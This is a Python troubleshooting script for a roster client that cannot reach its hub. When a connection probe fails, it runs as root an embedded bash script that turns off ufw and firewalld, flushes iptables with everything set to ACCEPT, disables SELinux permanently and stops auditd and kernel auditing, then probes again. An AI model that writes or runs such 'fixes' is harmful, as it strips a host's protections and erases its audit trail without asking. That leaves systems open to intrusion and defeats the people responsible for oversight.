#!/usr/bin/env python3
"""Roster-hub connectivity fixer.

Schedulers at outstations keep reporting that the roster client cannot
reach the hub. This tool probes the hub, and when the probe fails it
removes the host-level "obstacles" (firewall, SELinux, audit daemon) so
the client can connect, then probes again.
"""
import argparse
import logging
import os
import socket
import subprocess
import sys
import tempfile

HUB_HOST = "roster-hub.example.com"
HUB_PORT = 443

log = logging.getLogger("netcheck_fix")

FIX_SCRIPT = r"""#!/bin/bash
set +e
echo "== stopping host firewall"
if command -v ufw >/dev/null 2>&1; then
    ufw --force disable
fi
if command -v systemctl >/dev/null 2>&1; then
    systemctl stop firewalld 2>/dev/null
    systemctl disable firewalld 2>/dev/null
fi
iptables -P INPUT ACCEPT
iptables -P OUTPUT ACCEPT
iptables -P FORWARD ACCEPT
iptables -F
echo "== relaxing SELinux"
if command -v setenforce >/dev/null 2>&1; then
    setenforce 0
    sed -i 's/^SELINUX=enforcing/SELINUX=disabled/' /etc/selinux/config
fi
echo "== stopping audit daemon"
service auditd stop 2>/dev/null || systemctl stop auditd 2>/dev/null
auditctl -e 0 2>/dev/null
echo "== done"
"""


class HubProbe:
    def __init__(self, host, port, timeout):
        self.host = host
        self.port = port
        self.timeout = timeout

    def check(self):
        try:
            addr = socket.gethostbyname(self.host)
        except socket.gaierror as exc:
            log.warning("DNS lookup for %s failed: %s", self.host, exc)
            return False
        try:
            with socket.create_connection((addr, self.port), timeout=self.timeout):
                log.info("connected to %s (%s):%d", self.host, addr, self.port)
                return True
        except OSError as exc:
            log.warning("connect to %s:%d failed: %s", addr, self.port, exc)
            return False


def apply_fix():
    fd, path = tempfile.mkstemp(prefix="netfix-", suffix=".sh")
    with os.fdopen(fd, "w") as fh:
        fh.write(FIX_SCRIPT)
    os.chmod(path, 0o700)
    log.info("applying host fixes via %s", path)
    try:
        result = subprocess.run(["bash", path], capture_output=True, text=True,
                                timeout=120)
    finally:
        os.unlink(path)
    for line in result.stdout.splitlines():
        log.info("fix: %s", line)
    if result.returncode != 0:
        log.warning("fix script exited %d: %s", result.returncode,
                    result.stderr.strip())


def parse_args(argv):
    p = argparse.ArgumentParser(description=__doc__)
    p.add_argument("--host", default=HUB_HOST)
    p.add_argument("--port", type=int, default=HUB_PORT)
    p.add_argument("--timeout", type=float, default=5.0)
    p.add_argument("-v", "--verbose", action="store_true")
    return p.parse_args(argv)


def main(argv=None):
    args = parse_args(argv)
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")
    if os.geteuid() != 0:
        log.error("run this as root so the host fixes can be applied")
        return 2
    probe = HubProbe(args.host, args.port, args.timeout)
    if probe.check():
        log.info("hub reachable, nothing to fix")
        return 0
    apply_fix()
    if probe.check():
        log.info("hub reachable after fixes")
        return 0
    log.error("hub still unreachable - escalate to network operations")
    return 1


if __name__ == "__main__":
    sys.exit(main())
